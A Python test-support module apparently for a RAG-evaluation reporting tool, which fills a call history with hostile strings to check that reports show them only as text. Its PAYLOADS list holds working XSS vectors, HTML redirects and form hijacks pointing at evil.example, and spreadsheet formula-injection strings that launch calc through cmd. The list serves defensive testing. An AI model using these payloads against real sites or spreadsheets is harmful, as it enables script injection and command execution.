"""Texts that try to become more than text where a report shows them."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Final

from ragtrace.core.labels import Claim
from ragtrace.core.text import encodable
from ragtrace.core.types import Document, Evaluation, RagCall, Result, Score, Unscored
from ragtrace.history.source import CallOrigin
from ragtrace.history.writing import QueuedCall
from tests.support.history import call_of, fill

PROOF: Final = "pwned"
"""Id of the element, and title of the page, that a payload would make if it ran."""
_RUN: Final = f"document.title='{PROOF}';document.body.insertAdjacentHTML('beforeend','<i id={PROOF}></i>')"
PAYLOADS: Final = (
    f"<script>{_RUN}</script>",
    f"</style></title></textarea></script><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f'"><svg onload="{_RUN}"><p id={PROOF}>',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    f'<details open ontoggle="{_RUN}">',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<a href="javascript:{_RUN}">click</a>',
    f"[click](javascript:{_RUN})",
    f'![x](x" onerror="{_RUN})',
    "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=q autofocus></form><link rel=stylesheet href=//evil.example/x.css>",
    "};body{background:url(//evil.example/x)}</style>",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "| a | b |\n|---|---|\n# heading\n> quote\n- list\n```\ncode\n```\n<b>bold</b>",
    "https://evil.example www.evil.example @team #1 evil@evil.example ftp://evil.example",
    "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "\u202eright to left\u2066",
    "lone \ud800 surrogate and NUL \0",
    "&lt;script&gt; &amp; &#60;script&#62; \\u003cscript\\u003e",
)


def call(payload: str, at: float, rng: random.Random) -> QueuedCall:
    """A call with *payload* wherever a text or a name can be."""
    answer = f"{payload} said {payload}"
    start = len(payload) // 2
    claim = Claim(payload, 0, len(answer), "not_found", evidence=(0,), quote=payload, unsupported=((start, start + 9),))
    shown = call_of(rng, answer, workflow=payload, model=f"model {payload}")
    fields = {name: getattr(shown, name) for name in RagCall.__dataclass_fields__}
    documents = (Document(payload, payload, 0.5), Document(f"second {payload}", None, None))
    hostile = RagCall(**{**fields, "query": payload, "contexts": documents, "conversation_id": payload})
    results: dict[str, Result] = {
        "hallucination": Score(
            1.0, "hallucination", "1", False, label=payload, explanation=f"because {payload}", claims=(claim,)
        ),
        payload: Score(0.5, payload, payload, explanation=payload),
        f"unscored {payload}": Unscored("no_claims", payload, explanation=payload),
    }
    evaluation = Evaluation(f"judge {payload}", payload, "llm_judge", results, cost_usd=0.1, n_calls=1)
    return QueuedCall(hostile, (evaluation,), payload, at)


def history(path: Path, now: float) -> None:
    """A history with every payload in two periods of an hour."""
    rng = random.Random(1)
    for number, payload in enumerate(PAYLOADS):
        judge = encodable(f"judge {payload}@{payload}")
        source = CallOrigin(payload, payload, judge, ("hallucination", encodable(payload)))
        fill(path, [call(payload, now - ago - number, rng) for ago in (5400.0, 1800.0)], source)
